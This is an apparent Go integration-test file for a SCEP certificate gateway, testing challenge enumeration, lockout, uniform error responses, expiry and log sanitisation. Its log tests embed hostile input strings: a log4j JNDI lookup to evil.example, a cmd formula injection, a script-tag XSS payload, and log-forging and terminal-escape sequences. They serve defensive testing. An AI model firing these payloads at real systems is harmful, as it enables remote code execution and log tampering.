package main

import (
	"context"
	"crypto/sha256"
	"crypto/x509"
	"fmt"
	"net/http"
	"strings"
	"time"
	"unicode"

	"github.com/scepgate/scepgate/integration/wire"
)

func mustParse(der []byte) *x509.Certificate {
	c, err := x509.ParseCertificate(der)
	if err != nil {
		panic(err)
	}
	return c
}

// digestOf is the messageDigest of content under SHA-256.
func digestOf(content []byte) []byte {
	sum := sha256.Sum256(content)
	return wire.Attribute(wire.OIDMessageDigest, wire.Octets(sum[:]))
}

// rowsEnumeration: D27–D31. What time tells is measured in integration/bench.
func rowsEnumeration() []vector {
	list := []vector{
		{row: "D27", variant: "twenty challenges at random", want: rej, act: func(t *try) {
			for range 20 {
				t.refuses(wire.New(t.Device.Key, t.Device.SelfSigned, t.RA, t.CN, newChallenge()).Bytes(), "challenge_unknown")
			}
			t.untouched("wifi", t.ID)
			t.enrols(t.M.Bytes()) // and nobody was locked out
		}},
		{row: "D27", variant: "registering a challenge of seven characters", want: cfg, act: func(t *try) {
			t.unprocessable(map[string]any{"challenge": "CANARY7"}, "challenge_syntax")
		}},
		{row: "D28", variant: "ten reasons, one answer", want: rej, act: func(t *try) { t.manyReasons() }},
		{row: "D29", variant: "a challenge that exists and one that does not", want: rej, act: func(t *try) {
			wrong := t.message(t.Device)
			wrong.Request.SetSubject("administrator")
			t.refuses(wrong.Bytes(), "subject_mismatch")
			t.refuses(wire.New(t.Device.Key, t.Device.SelfSigned, t.RA, t.CN, newChallenge()).Bytes(), "challenge_unknown")
		}},
		{row: "D30", variant: "three wrong names burn a challenge, and the MDM makes another", want: asDescribed, act: func(t *try) {
			for i := range 3 {
				m := t.message(t.Device)
				m.Request.SetSubject("administrator" + itoa(i))
				t.refuses(m.Bytes(), "subject_mismatch")
			}
			t.state(t.ID, "locked")
			t.refuses(t.M.Bytes(), "challenge_locked")
			t.revokes(t.profile(), t.ID)
			_, challenge := t.oneMore(t.CN)
			t.enrols(wire.New(t.Device.Key, t.Device.SelfSigned, t.RA, t.CN, challenge).Bytes())
		}},
		{row: "D30", variant: "one wrong name four times is one strike", want: rej, act: func(t *try) {
			for range 4 {
				m := t.message(t.Device)
				m.Request.SetSubject("administrator")
				t.refuses(m.Bytes(), "subject_mismatch")
			}
			t.struck(t.ID)
			t.enrols(t.M.Bytes())
		}},
		{row: "D30", variant: "with the password that everybody has nobody locks anybody out", want: rej, profile: "static", act: func(t *try) {
			for i := range 4 {
				m := t.message(t.Device)
				m.Request.Extend(wire.SAN(wire.DNS("dc0" + itoa(i) + ".example.com")))
				t.refuses(m.Bytes(), "identity_unknown")
			}
			t.untouched("static", t.ID)
			t.enrols(t.M.Bytes())
		}},
		{row: "D31", variant: "a User-Agent that would forge a line", want: asDescribed, act: func(t *try) {
			m := t.M.Bytes()
			req := t.postRequest(m)
			req.Header.Set("User-Agent", "curl\t\x22,\x22reason\x22:\x22ok\xff\xfe"+strings.Repeat("A", 4000))
			t.issued(t.do(req))
			l := t.decision("ok")
			t.shows(l.String("user_agent"), 250)
			t.reached(m)
		}},
	}
	for _, n := range []struct{ variant, cn, reason string }{
		{"CR, LF and a line of its own", "x\r\n{\"level\":\"info\",\"reason\":\"ok\"}", "malformed_request"},
		{"an escape sequence that clears a terminal", "x\x1b[2J\x1b[31m", "malformed_request"},
		{"letters from right to left", "nimda\u202etxe.dcba", "malformed_request"},
		{"a zero-width blank", "admin\u200bistrator", "malformed_request"},
		{"what ends a JSON string", `x","reason":"ok","y":"`, "subject_mismatch"},
		{"a lookup of log4j", "${jndi:ldap://evil.example/x}", "subject_mismatch"},
		{"a formula", "=cmd|' /C calc'!A0", "subject_mismatch"},
		{"markup", "<script>alert(1)</script>", "subject_mismatch"},
		{"4,000 letters", strings.Repeat("A", 4000), "malformed_request"},
	} {
		list = append(list, vector{row: "D31", variant: "CN with " + n.variant, want: rej, act: func(t *try) {
			t.M.Request.SetSubject(n.cn)
			l := t.refuses(t.M.Bytes(), n.reason)
			for _, field := range []string{"requested_subject", "requested_san", "findings", "transaction_id"} {
				t.shows(fmt.Sprint(l[field]), 2000)
			}
		}})
	}
	return list
}

// shows demands that text which an attacker had a hand in shows as what it is.
func (t *try) shows(text string, most int) {
	t.demand(len(text) <= most, "%d octets of the attacker's in one field", len(text))
	for _, r := range text {
		if !unicode.IsPrint(r) {
			t.failf("the log has %U of the attacker's", r)
			return
		}
	}
}

// manyReasons is refused for ten reasons and compares all of the answers with
// each other, lengths included: every message has a transactionID and a nonce
// of one length.
func (t *try) manyReasons() {
	length := 0
	refuse := func(m *wire.Message, reason string) {
		a := t.post(m.Bytes())
		t.refused(a)
		t.decision(reason)
		if length == 0 {
			length = len(a.Body)
		}
		t.demand(len(a.Body) == length, "%s: %d octets, not %d", reason, len(a.Body), length)
	}
	mine := func(change func(m *wire.Message)) *wire.Message {
		m := t.message(t.Device)
		change(m)
		return m
	}
	refuse(wire.New(t.Device.Key, t.Device.SelfSigned, t.RA, t.CN, newChallenge()), "challenge_unknown")
	refuse(mine(func(m *wire.Message) { m.Request.Challenge = nil }), "challenge_missing")
	refuse(mine(func(m *wire.Message) { m.Request.SetSubject("administrator") }), "subject_mismatch")
	refuse(mine(func(m *wire.Message) { m.Request.Extend(wire.SAN(wire.DNS("dc01.example.com"))) }), "san_mismatch")
	refuse(mine(func(m *wire.Message) { m.SignedData.Signer.MessageType = "18" }), "message_type_refused")
	refuse(mine(func(m *wire.Message) { m.Plaintext = []byte("rubbish") }), "malformed_request")
	refuse(mine(func(m *wire.Message) { m.Envelope.Pad = func(p []byte, b int) []byte { return make([]byte, 32) } }), "undecryptable")
	refuse(mine(func(m *wire.Message) { m.Envelope.Ciphertext = wire.Random(33) }), "undecryptable")
	t.enrols(t.M.Bytes())
	refuse(mine(func(*wire.Message) {}), "challenge_used")
	refuse(t.message(t.other()), "challenge_in_use")
	t.revokes(t.profile(), t.ID)
	refuse(mine(func(*wire.Message) {}), "challenge_revoked")
	t.reached()
}

// rowsClock: D32, D33.
func rowsClock() []vector {
	list := []vector{
		{row: "D32", variant: "a self-signed certificate that is valid from next year on", want: forwarded, reason: "ok", message: func(t *try) {
			now := time.Now()
			t.M.SignedData.Signer.Certificate = wire.Certificate(&x509.Certificate{
				RawSubject: wire.CommonName(t.CN), NotBefore: now.AddDate(1, 0, 0), NotAfter: now.AddDate(2, 0, 0),
			}, t.Device.Key, nil, nil)
		}},
		{row: "D33", variant: "a message that comes when its challenge has expired", want: rej, act: func(t *try) {
			if !t.expires() {
				return
			}
			t.refuses(t.M.Bytes(), "challenge_expired")
			t.state(t.ID, "expired")
		}},
		{row: "D33", variant: "registering what has expired already", want: cfg, act: func(t *try) {
			t.unprocessable(map[string]any{"expires_at": "2020-01-01T00:00:00Z"}, "ttl_range")
		}},
		{row: "D33", variant: "registering for longer than thirty days", want: cfg, act: func(t *try) {
			t.unprocessable(map[string]any{"ttl_seconds": 30*24*3600 + 1}, "ttl_range")
		}},
		{row: "D33", variant: "giving an expired one more time", want: cfg, act: func(t *try) {
			e := t.honest()
			t.ID = t.also(e)
			if t.expires() {
				t.demandCall(t.Token, http.MethodPatch, "/v1/profiles/wifi/expectations/"+t.ID, map[string]any{"expires_at": time.Now().Add(time.Hour)}, http.StatusConflict, "not_registered")
			}
		}},
	}
	for _, s := range []struct{ variant, utc string }{{"of 1950", "500101000000Z"}, {"of 2049", "491231235959Z"}} {
		list = append(list, vector{row: "D32", variant: "signingTime " + s.variant, want: forwarded, act: func(t *try) {
			t.M.SignedData.Signer.Attributes = [][]byte{signingTime(s.utc)}
			t.validAnswer("0", nil, "issued") // the simulator would ask for a time at which the certificate was valid
		}})
	}
	return list
}

// expires brings the end of the vector's expectation near and waits until it is
// there. The gateway's clock is the only one.
func (t *try) expires() bool {
	t.demandCall(t.Token, http.MethodPatch, "/v1/profiles/"+t.profile()+"/expectations/"+t.ID,
		map[string]any{"expires_at": time.Now().Add(100 * time.Millisecond)}, http.StatusOK, "")
	return t.awaitState("expired")
}

// awaitState asks for an expectation until it is in this state.
func (t *try) awaitState(state string) bool {
	t.demands++
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); {
		var e struct {
			State string `json:"state"`
		}
		if _, err := t.Call(context.Background(), t.Token, http.MethodGet, "/v1/profiles/"+t.profile()+"/expectations/"+t.ID, nil, &e); err != nil {
			t.failf("reading the expectation: %v", err)
			return false
		}
		if e.State == state {
			return true
		}
	}
	t.failf("the expectation never was %s", state)
	return false
}
